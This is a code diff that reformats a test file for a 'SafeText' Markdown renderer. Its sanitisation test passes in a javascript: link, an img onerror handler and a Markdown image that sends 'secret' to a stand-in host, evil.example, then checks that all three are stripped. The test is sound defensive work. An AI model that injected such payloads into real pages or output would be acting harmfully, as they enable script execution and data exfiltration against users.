@@ -6,7 +6,25 @@ import { renderMarkdown } from "./render-markdown";
 
 afterEach(cleanup);
 
-const REPLY = ["Intro with [a link](https://example.com).", "", "- one", "", "- two", "", "```ts", "const a = 1;", "", "const b = '<b>';", "```", "", "| h |", "|---|", "| 1 |", "", "Bye."].join("\n");
+const REPLY = [
+  "Intro with [a link](https://example.com).",
+  "",
+  "- one",
+  "",
+  "- two",
+  "",
+  "```ts",
+  "const a = 1;",
+  "",
+  "const b = '<b>';",
+  "```",
+  "",
+  "| h |",
+  "|---|",
+  "| 1 |",
+  "",
+  "Bye.",
+].join("\n");
 
 describe("SafeText", () => {
   it("renders the same HTML block by block as the whole reply at once", () => {
@@ -18,7 +36,11 @@ describe("SafeText", () => {
   });
 
   it("sanitises what it renders", () => {
-    render(<SafeText markdown={'[x](javascript:alert(1)) <img src=x onerror="alert(1)"> ![leak](https://evil.example/?q=secret)'} />);
+    render(
+      <SafeText
+        markdown={'[x](javascript:alert(1)) <img src=x onerror="alert(1)"> ![leak](https://evil.example/?q=secret)'}
+      />,
+    );
     const container = screen.getByTestId("safe-text");
     expect(container.querySelector("[href], img, [onerror]")).toBeNull();
     expect(container.textContent).toContain("<img src=x onerror=");
